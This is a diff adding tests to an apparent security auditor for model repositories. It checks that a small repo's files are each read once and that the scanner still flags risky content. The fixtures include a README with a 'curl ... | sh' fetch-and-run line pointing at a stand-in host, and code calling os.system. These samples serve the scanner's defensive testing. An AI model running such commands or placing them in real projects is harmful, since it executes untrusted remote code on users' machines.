@@ -2,6 +2,7 @@
 path roles from the rules, license patterns compiled on use, the survey's small-file records."""
 from __future__ import annotations
 
+import ast
 import hashlib
 import json
 import os
@@ -96,7 +97,7 @@ def test_modelscan_engine_still_scans_a_pickle(tmp_path: Path) -> None:
 UNNEEDED = ("yaml", "auditor.parsers.pyast", "auditor.parsers.archive", "auditor.scanners.pickle_containers",
             "auditor.parsers.picklevm", "auditor.scanners.pickle_streams", "tarfile", "zipfile", "tomllib",
             "html.parser", "auditor.sandbox", "numpy",
-            "concurrent.futures", "logging", "platform")   # no hashing pool when the survey hashed every file
+            "concurrent.futures", "logging", "platform", "auditor.parsers.gguf", "auditor.parsers.pdftext")   # no hashing pool when the survey hashed every file
 
 
 def test_a_repo_without_code_archives_or_yaml_imports_none_of_their_readers(tmp_path: Path) -> None:
@@ -129,3 +130,46 @@ def test_the_readers_left_out_still_run_when_their_files_are_there(tmp_path: Pat
     result = audit(str(tmp_path), Options(engines=("auditor",)))
     found = {(f.rule, f.file) for f in result.findings}
     assert {("CODE-PROCESS", "modeling_x.py"), ("PICKLE-GLOBAL-DANGEROUS", "model.pt"), ("LICENSE-IDENTIFIED", "")} <= found
+
+
+def test_a_small_repo_is_read_once_the_scanners_get_the_bytes_the_survey_hashed(tmp_path: Path) -> None:
+    """Cards, configs, tokenizers, code and a Dockerfile: each opened once, by the survey; the scanners still
+    find what is in them."""
+    model = tmp_path / "m"
+    model.mkdir()
+    (model / "config.json").write_text('{"model_type": "llama", "auto_map": {"AutoModel": "modeling_x.X"}}')
+    (model / "tokenizer.json").write_text('{"model": {"type": "BPE"}}')
+    (model / "README.md").write_text("---\nlicense: mit\n---\n# card\n\nRun: curl -s https://x.example/i.sh | sh\n")
+    (model / "modeling_x.py").write_text("import os\nos.system('id')\nURL = 'https://api.deepseek.com/v1'\n")
+    (model / "Dockerfile").write_text("FROM python:3.11\nENV HF_ENDPOINT=https://hf-mirror.com\n")
+    code = ("import sys, collections\n"
+            "opened = collections.Counter()\n"
+            "root = sys.argv[1]\n"
+            "def hook(event, args):\n"
+            "    if event == 'open' and isinstance(args[0], str) and args[0].startswith(root + '/'):\n"
+            "        opened[args[0][len(root) + 1:]] += 1\n"
+            "sys.addaudithook(hook)\n"
+            "from auditor.model import Options\n"
+            "from auditor.pipeline import audit\n"
+            "result = audit(root, Options(engines=('auditor',)))\n"
+            "print(dict(opened))\n"
+            "print(sorted({(f.rule, f.file) for f in result.findings}))\n")
+    out = subprocess.run([sys.executable, "-c", code, str(model)], capture_output=True, text=True, check=True)
+    opened_line, findings_line = out.stdout.strip().split("\n")[-2:]
+    opened = ast.literal_eval(opened_line)
+    assert opened == dict.fromkeys(("Dockerfile", "README.md", "config.json", "modeling_x.py", "tokenizer.json"), 1)
+    for expected in ("('CODE-PROCESS', 'modeling_x.py')", "('SCRIPT-README-RUN', 'README.md')",
+                     "('AUTOMAP-REMOTE-CODE', 'config.json')", "('ENDPOINT-ORIGIN-API', 'modeling_x.py')",
+                     "('DEPLOY-ORIGIN-MIRROR', 'Dockerfile')", "('LICENSE-IDENTIFIED', '')"):
+        assert expected in findings_line, findings_line
+
+
+def test_the_survey_keeps_small_files_up_to_its_budget(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    for i in range(6):
+        (tmp_path / f"f{i}.txt").write_bytes(b"x" * 1000)
+    (tmp_path / "big.bin").write_bytes(b"y" * (inventory.READ_WHOLE + 1))
+    monkeypatch.setattr(inventory, "KEEP_BYTES", 3500)
+    surveyed = inventory.survey(local.open_snapshot(str(tmp_path), Options()), Options())
+    assert sorted(surveyed.contents) == ["f0.txt", "f1.txt", "f2.txt"]        # 3 x 1000 <= 3500 < 4 x 1000
+    assert all(data == b"x" * 1000 for data in surveyed.contents.values())
+    assert "big.bin" not in surveyed.read_whole and len(surveyed.read_whole) == 6
